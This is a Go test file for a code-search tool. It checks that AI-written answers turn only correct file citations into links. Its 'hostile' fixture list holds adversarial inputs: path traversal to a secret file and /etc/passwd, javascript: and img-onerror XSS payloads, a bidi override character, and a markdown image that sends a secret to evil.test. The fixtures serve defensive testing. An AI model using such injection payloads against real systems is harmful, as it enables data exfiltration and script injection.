package ask_test

import (
	"flag"
	"fmt"
	"math/rand/v2"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/shoalsearch/shoal/cluster/catalog"
	"github.com/shoalsearch/shoal/node"
	"github.com/shoalsearch/shoal/node/ask"
	"github.com/shoalsearch/shoal/node/model/modeltest"
	"github.com/shoalsearch/shoal/node/nodetest"
)

var answers = flag.Int("answers", 40, "how many answers TestCitations_onlyTrueOnesOfRandomAnswersBecomeLinks has a model write")

// citing is a piece of an answer and the expected result of the check.
type citing struct {
	text  string // with a citation, or something that looks like one
	state ask.CiteState
	label string
}

// citings are right, moved, invented and hostile citations.
var citings = map[string][]citing{
	"right": {
		{"By `Open` @file:{local/app::store/store.go:4}. ", ask.Cited, "store/store.go:4"},
		{"By `Open` @file:{local/app::store/store.go:4-6}. ", ask.Cited, "store/store.go:4-6"},
		{"By `Store.Close()` (@file:{app::store.go:11-14}). ", ask.Cited, "store/store.go:11-14"},
		{"By `Open` @file:{local/app/store/store.go#L4-L6}. ", ask.Cited, "store/store.go:4-6"},
	},
	"unseen": {
		{"It says so @file:{local/app::README.md:3}. ", ask.Unchecked, "README.md:3"},
		{"In @file:{`local/app::README.md`} it is told. ", ask.Unchecked, "README.md"},
		{"It stands in @file:{local/app::store/store.go:1-15}. ", ask.Unchecked, "store/store.go:1-14"},
	},
	"moved": {
		{"Ended by `Close` @file:{local/app::store/store.go:4}. ", ask.Moved, "store/store.go:12"},
		{"Ended by `Close` @file:{local/app::store/store.go:900}. ", ask.Moved, "store/store.go:12"},
		{"Opened by `Open` @file:{app::store.go:14-15}. ", ask.Moved, "store/store.go:4"},
	},
	"invented": {
		{"See @file:{local/app::store/nothing.go:3}. ", ask.Unverified, "nothing.go:3"},
		{"See @file:{local/nowhere::store/store.go:3}. ", ask.Unverified, "store.go:3"},
		{"See @file:{local/app::store/store.go:900}. ", ask.Unverified, "store/store.go:900"},
		{"See @file:{local/app::store/store.go::v9:4}. ", ask.Unverified, "store.go:4"},
	},
	"hostile": {
		{"See @file:{local/hidden::secret.go:3}. ", ask.Unverified, "secret.go:3"},
		{"See @file:{local/app::../../hidden/secret.go:3}. ", ask.Unverified, "secret.go:3"},
		{"See @file:{local/app::/etc/passwd:1}. ", ask.Unverified, "passwd:1"},
		{"See @file:{javascript:alert(1)::x:1}. ", ask.Unverified, "x:1"},
		{"See @file:{local/app::x](http://evil.test/a.go:1}. ", ask.Unverified, "a.go:1"},
		{"See @file:{local/app::<img src=x onerror=alert(1)>:1}. ", ask.Unverified, "<img src=x onerror=alert(1)>:1"},
		{"See @file:{local/app::store/\u202estore.go:900}. ", ask.Unverified, "store/store.go:900"},
		{"![x](http://evil.test/?q=secret) ", "", ""},
		{"<img src=http://evil.test/> ", "", ""},
		{"[click](javascript:alert(1)) ", "", ""},
		{"[x]: http://evil.test/\n", "", ""},
	},
}

// linked matches what a browser would follow in the markdown of an answer.
var linked = regexp.MustCompile(`(?:^|[^\\])\]\(([^)]*)\)|<[a-zA-Z/!]|(?i)[^\\]\bhttps?:|^\[[^\]]*\]:`)

// The model writes answers of random pieces. The result of each citation is known, and only right
// citations become links.
func TestCitations_onlyTrueOnesOfRandomAnswersBecomeLinks(t *testing.T) {
	t.Parallel()
	rng := rand.New(rand.NewPCG(11, 13))
	kinds := []string{"right", "unseen", "moved", "invented", "hostile"}
	var scripts []string
	var wanted [][]citing
	drawn := map[string]int{}
	for range *answers {
		var text strings.Builder
		var want []citing
		for range 1 + rng.IntN(6) {
			kind := kinds[rng.IntN(len(kinds))]
			c := citings[kind][rng.IntN(len(citings[kind]))]
			drawn[kind]++
			text.WriteString(c.text)
			if c.state != "" {
				want = append(want, c)
			}
		}
		scripts, wanted = append(scripts, text.String()), append(wanted, want)
	}
	number := regexp.MustCompile(`answer number (\d+) `)
	s := modeltest.Play(t, func(r *modeltest.Request) modeltest.Turn {
		n := 0
		_, _ = fmt.Sscan(number.FindStringSubmatch(r.Raw)[1], &n)
		return modeltest.Turn{Text: scripts[n]}
	})
	n := sample(t, s)

	made := map[ask.CiteState]int{}
	for i, want := range wanted {
		r, _ := answered(t, n, ask.Question{Query: fmt.Sprintf("answer number %d please", i), Repos: []string{"local/app"}})
		if err := n.Ask.DeleteChat(t.Context(), catalog.Operator(), r.ID); err != nil {
			t.Fatal(err)
		}
		var got []*ask.Citation
		for _, p := range r.Answer {
			if p.Cite != nil {
				got = append(got, p.Cite)
			}
		}
		if len(got) != len(want) {
			t.Fatalf("%q: %d citations, want %d", scripts[i], len(got), len(want))
		}
		links := 0
		for k, c := range got {
			made[c.State]++
			if c.State != want[k].state || !strings.HasPrefix(c.Label(), want[k].label) {
				t.Errorf("%q: %s %s, want %s %s", want[k].text, c.State, c.Label(), want[k].state, want[k].label)
			}
			if c.State != ask.Unverified {
				links++
			}
		}

		// A link leads to the file at a commit, and there are no other links.
		for _, m := range linked.FindAllStringSubmatch(ask.Markdown(r.Answer, ""), -1) {
			if !strings.HasPrefix(m[1], "/browse/local/app@") {
				t.Errorf("%q leads to %q", scripts[i], m[0])
			}
			links--
		}
		if links != 0 {
			t.Errorf("%q: %d citations are no links", scripts[i], links)
		}
	}
	t.Logf("%d answers of %v: %d links as they were written, %d moved, %d without a link", *answers, drawn, made[ask.Cited], made[ask.Moved], made[ask.Unverified])
}

// The only node with the code is cut off while the model writes. The answer is still good, and
// the model is not asked again.
func TestCitations_thatCannotBeCheckedDoNotSpoilTheAnswer(t *testing.T) {
	t.Parallel()
	gone := make(chan func(), 1)
	s := modeltest.Play(t, func(r *modeltest.Request) modeltest.Turn {
		if r.Step == 0 {
			return modeltest.Turn{Calls: []modeltest.Call{call("a", "read_file", `{"repo":"local/app","path":"a.go"}`)}}
		}
		(<-gone)()
		return modeltest.Turn{Text: "It is `seven` @file:{local/app::a.go:3}."}
	})
	dir := t.TempDir()
	nodetest.NewRepo(t, filepath.Join(dir, "app"), map[string]string{"a.go": "package a\n\nconst seven = 7\n"})
	f := nodetest.StartFleet(t, 3, nodetest.Config{
		File: fmt.Sprintf(`{"connections": {"all": {"type": "git", "url": "file://%s/*"}}, "models": [{"provider": "openai-compatible", "model": "scripted", "baseUrl": %q}]}`, dir, s.URL),
		Edit: func(o *node.Options) { o.Replicas = 1 },
	})
	for _, n := range f.Nodes {
		n.WaitIndexed(1)
		waitModels(n)
	}
	waitWhole(f)

	holder := onlyHolder(f)
	gone <- func() { f.Crash(holder) }

	r, events := answered(t, f.Nodes[(holder+1)%3], ask.Question{Query: "What is seven?"})
	if got := ask.Markdown(r.Answer, ""); r.Status != ask.Done || r.Steps != 2 || !strings.Contains(got, "It is `seven`  a.go:3 (unchecked).") {
		t.Errorf("%s after %d steps: %s", r.Status, r.Steps, got)
	}
	if want := "1 citation could not be checked: the nodes that have the code did not answer."; !slices.Equal(r.Limits, []string{want}) {
		t.Errorf("limits %q", r.Limits)
	}
	if slices.ContainsFunc(events, func(e ask.Event) bool { return e.Kind == ask.KindAgain }) {
		t.Errorf("the model was asked again: %q", plainEvents(events))
	}
}

// onlyHolder waits until exactly one node has the only repository, for good. If it was indexed
// before all nodes had joined, it may move, and for a moment two nodes have it.
func onlyHolder(f *nodetest.Fleet) (holder int) {
	f.Nodes[0].Wait("the repository to be where it has its place, and nowhere else", func() error {
		s := f.Nodes[0].Status()
		var wanted, has []int
		for i, n := range f.Nodes {
			if slices.ContainsFunc(s.Members, func(m node.MemberStatus) bool { return m.ID == n.ID() && m.Groups > 0 }) {
				wanted = append(wanted, i)
			}
			if found, err := filepath.Glob(filepath.Join(n.Dir, "mirrors", "*.git", "HEAD")); err == nil && len(found) > 0 {
				has = append(has, i)
			}
		}

		if len(has) != 1 || !slices.Equal(has, wanted) || s.Jobs.Pending+s.Jobs.Running > 0 {
			return fmt.Errorf("it is on %d and has its place on %d, jobs %+v", has, wanted, s.Jobs)
		}
		holder = has[0]
		return nil
	})
	return holder
}
